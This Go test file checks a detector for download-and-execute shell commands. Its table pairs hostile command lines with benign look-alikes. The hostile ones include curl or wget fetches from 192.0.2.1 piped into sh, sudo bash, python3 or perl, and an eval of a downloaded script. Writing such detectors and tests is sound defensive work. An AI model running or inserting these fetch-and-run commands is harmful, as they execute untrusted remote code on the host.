package builtin

import "testing"

func TestDownloadAndRun(t *testing.T) {
	run(t, downloadAndRun, tests{
		"pipe":               {exec("/bin/sh", "sh\x00-c\x00curl -s http://192.0.2.1/x | sh", 0), true},
		"executable":         {exec("/bin/sh", "sh\x00-c\x00wget http://192.0.2.1/x && chmod +x x && ./x", 0), true},
		"download":           {exec("/bin/sh", "sh\x00-c\x00curl http://192.0.2.1/x", 0), false},
		"no code":            {exec("/usr/bin/echo", "echo\x00curl x | sh", 0), false},
		"git":                {exec("/bin/sh", "sh\x00-c\x00git -C /srv fetch origin && chmod +x run", 0), false},
		"other word":         {exec("/bin/sh", "sh\x00-c\x00npm run prefetch x && chmod +x run", 0), false},
		"fetch":              {exec("/bin/sh", "sh\x00-c\x00fetch http://192.0.2.1/x && chmod +x x", 0), true},
		"fetch after git":    {exec("/bin/sh", "sh\x00-c\x00git status; fetch -o - http://192.0.2.1/x | sh", 0), true},
		"module":             {exec("/bin/sh", "sh\x00-c\x00curl -s localhost/health | python3 -m json.tool", 0), false},
		"code of its own":    {exec("/bin/sh", "sh\x00-c\x00curl -s localhost | python3 -c \"import sys\"", 0), false},
		"Perl with code":     {exec("/bin/sh", "sh\x00-c\x00curl -s localhost | perl -ne print", 0), false},
		"Python":             {exec("/bin/sh", "sh\x00-c\x00curl -s http://192.0.2.1/x | python3", 0), true},
		"Python, input":      {exec("/bin/sh", "sh\x00-c\x00curl -s http://192.0.2.1/x |python3 - a", 0), true},
		"Python, option":     {exec("/bin/sh", "sh\x00-c\x00curl -s http://192.0.2.1/x | /usr/bin/python3.11 -u 2>/dev/null; id", 0), true},
		"Perl":               {exec("/bin/sh", "sh\x00-c\x00curl -s http://192.0.2.1/x | perl && id", 0), true},
		"sum":                {exec("/bin/sh", "sh\x00-c\x00curl -s x -o f; echo 00 f | sha256sum -c", 0), false},
		"alternative":        {exec("/bin/sh", "sh\x00-c\x00curl -s localhost || sh fallback", 0), false},
		"sudo with options":  {exec("/bin/sh", "sh\x00-c\x00curl -s http://192.0.2.1/x | sudo -E bash -s", 0), true},
		"sudo":               {exec("/bin/sh", "sh\x00-c\x00curl -s http://192.0.2.1/x | sudo bash", 0), true},
		"eval":               {exec("/bin/sh", "sh\x00-c\x00eval \"$(ssh-agent)\"; curl -s localhost", 0), false},
		"eval of a download": {exec("/bin/sh", "sh\x00-c\x00eval \"$(curl -s http://192.0.2.1/x)\"", 0), true},
		"output elsewhere":   {exec("/bin/sh", "sh\x00-c\x00curl -s http://192.0.2.1/x |sh>/dev/null", 0), true},
	})
}
